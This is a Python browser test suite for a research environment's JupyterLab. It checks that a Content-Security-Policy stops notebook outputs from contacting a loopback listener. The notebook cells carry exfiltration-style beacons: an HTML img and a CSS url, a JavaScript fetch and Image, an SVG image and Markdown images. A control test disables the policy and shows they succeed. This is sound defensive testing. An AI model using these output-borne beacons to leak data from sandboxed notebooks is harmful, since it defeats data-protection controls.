"""Issue 15, item 2: a notebook's outputs cannot make the researcher's browser send data anywhere but
the TRE. Chromium opens JupyterLab through the real hub, proxy and meter, runs cells that try an HTML
``<img>``, a JavaScript ``fetch`` and ``Image``, an SVG ``<image>``, and Markdown images (a rendered
cell and a ``display(Markdown)``) pointing at a listener this test runs on another loopback port, and
the browser's own request log and the listener both show that nothing reached it. JupyterLab still
works under the policy: the kernel runs and its output is shown.

The control-removed test makes Chromium ignore the meter's Content-Security-Policy (Playwright's
``bypass_csp``) and shows the same cells then reach the listener."""

from __future__ import annotations

import json
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlparse

import httpx
import pytest

from tests.browser.conftest import CHROMIUM, CHROMIUM_ARGS

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

DONE = "all-cells-ran-7f3a"
EXPECTED = {"html-img", "js-fetch", "js-image", "md-display"}


class Listener:
    """An HTTP listener on 127.0.0.1 that records every request it gets (the 'elsewhere')."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "image/gif")
                self.end_headers()
                self.wfile.write(b"GIF89a\x01\x00\x01\x00\x00\x00\x00;")

            do_POST = do_OPTIONS = do_GET  # noqa: N815  (a fetch with credentials sends a preflight first)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    lst = Listener()
    yield lst
    lst.close()


def _notebook(port: int) -> dict:
    out = f"http://127.0.0.1:{port}"
    code = [
        "from IPython.display import HTML, SVG, Javascript, Markdown, display\n"
        f"display(HTML('<img src=\"{out}/?d=html-img\"><div style=\"background:url({out}/?d=html-css)\">x</div>'))",
        f"display(Javascript('fetch(\"{out}/?d=js-fetch\").catch(()=>0); (new Image()).src = \"{out}/?d=js-image\";'))",
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"20\" height=\"20\">"
        f"<image href=\"{out}/?d=svg-image\" width=\"20\" height=\"20\"/></svg>'))",
        f"display(Markdown('![x]({out}/?d=md-display)'))",
        f"print('{DONE}')",
    ]
    cells = [{"cell_type": "markdown", "id": "m0", "metadata": {}, "source": f"![x]({out}/?d=md-cell)"}]
    cells += [{"cell_type": "code", "id": f"c{i}", "metadata": {}, "execution_count": None, "outputs": [], "source": src} for i, src in enumerate(code)]
    return {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
            "nbformat": 4, "nbformat_minor": 5}


@pytest.fixture(scope="module")
def lab(hub, provisioner):
    slug = provisioner.open_project("csp-a", {"ivar": "researcher"})
    hub.start_server("ivar", slug)
    yield {"slug": slug, "url": hub.server_url("ivar", slug)}
    hub.stop_server("ivar", slug)


def _run_cells(hub, lab, listener, strip_csp: bool) -> dict:
    from playwright.sync_api import sync_playwright

    name = f"exfil-{'open' if strip_csp else 'csp'}.ipynb"
    with httpx.Client(base_url=lab["url"], headers={"Authorization": f"token {hub.process.admin_token}"}, timeout=30, trust_env=False) as c:
        assert c.put(f"api/contents/{name}", json={"type": "notebook", "content": _notebook(listener.port)}).status_code in {200, 201}
    tre = urlparse(hub.process.url).netloc
    requests: list[str] = []
    blocked: list[str] = []
    console: list[str] = []
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
        try:
            # Control removed: Chromium ignores the page's Content-Security-Policy (Page.setBypassCSP).
            context = browser.new_context(bypass_csp=strip_csp, extra_http_headers={"Authorization": f"token {hub.process.admin_token}"})
            page = context.new_page()
            page.on("request", lambda r: requests.append(r.url))
            page.on("requestfailed", lambda r: blocked.append(f"{r.url} {r.failure}"))
            page.on("console", lambda m: console.append(m.text))
            page.goto(f"{lab['url']}lab/tree/{name}?reset", timeout=120_000)  # a fresh workspace: only this notebook
            page.wait_for_selector(".jp-Notebook", timeout=120_000)
            page.wait_for_selector("text=Python 3 (ipykernel) | Idle", timeout=120_000)
            for _attempt in range(4):  # bounded: "Run All" can be swallowed while JupyterLab still settles
                page.get_by_role("menuitem", name="Run", exact=True).click()
                page.get_by_role("menuitem", name="Run All Cells", exact=True).click()
                try:
                    page.wait_for_selector(f".jp-OutputArea-output:has-text('{DONE}')", timeout=30_000)
                    break
                except Exception:
                    continue
            else:
                raise AssertionError(f"the cells did not all run; browser console: {console[-30:]}")
            time.sleep(2)  # let any late image or fetch start
            deadline = time.monotonic() + 15
            while strip_csp and time.monotonic() < deadline and not EXPECTED <= {h.split("d=", 1)[-1] for h in listener.hits}:
                time.sleep(0.2)
        finally:
            browser.close()
    outside = [u for u in requests if urlparse(u).netloc not in {tre, ""} and not u.startswith(("data:", "blob:"))]
    return {"outside": outside, "blocked": blocked, "console": console, "hits": list(listener.hits)}


def test_notebook_outputs_cannot_make_the_browser_call_elsewhere(hub, lab, listener):
    seen = _run_cells(hub, lab, listener, strip_csp=False)
    assert seen["hits"] == [], seen["hits"]
    # Chromium reports a request it blocked by policy as failed ("csp"); none may have gone out.
    sent = [u for u in seen["outside"] if f"{u} csp" not in seen["blocked"] and f"{u} net::ERR_BLOCKED_BY_CSP" not in seen["blocked"]]
    assert sent == [], json.dumps(seen, indent=1)[:3000]
    assert any("Content Security Policy" in m for m in seen["console"])  # the policy did the blocking
    # JupyterLab itself is not blocked: every policy complaint is about the listener.
    own = [m for m in seen["console"] if "Content Security Policy" in m and str(listener.port) not in m]
    assert own == [], own


def test_control_removed_without_the_policy_the_outputs_reach_the_listener(hub, lab, listener):
    seen = _run_cells(hub, lab, listener, strip_csp=True)
    reached = {h.split("d=", 1)[-1] for h in seen["hits"]}
    assert EXPECTED <= reached, json.dumps(seen, indent=1)[:4000]


def test_two_jupyterlab_sessions_spend_a_small_part_of_the_daily_budget(hub, lab):
    """What the browser got in the two page loads and runs above, as the meter audited it: the page
    itself is counted too, so normal work must leave most of the budget."""
    from hub.policy import security_policy

    hub.stop_server("ivar", lab["slug"])
    audit = hub.process.log_path.parent / "audit" / "hub.jsonl"
    deadline = time.monotonic() + 60
    record = None
    while record is None and time.monotonic() < deadline:
        for line in audit.read_text().splitlines() if audit.exists() else []:
            rec = json.loads(line)
            if rec["action"] == "notebook.output_volume" and rec["object_id"] == f"ivar/{lab['slug']}":
                record = json.loads(rec["detail"])
        time.sleep(0.2)
    assert record is not None and record["source"] == "meter"
    print("meter figures of two JupyterLab page loads and runs:", {k: record[k] for k in ("contents", "workspaces", "kernel", "other", "total")})
    assert 0 < record["total"] < security_policy().browser_reads.daily_bytes // 4
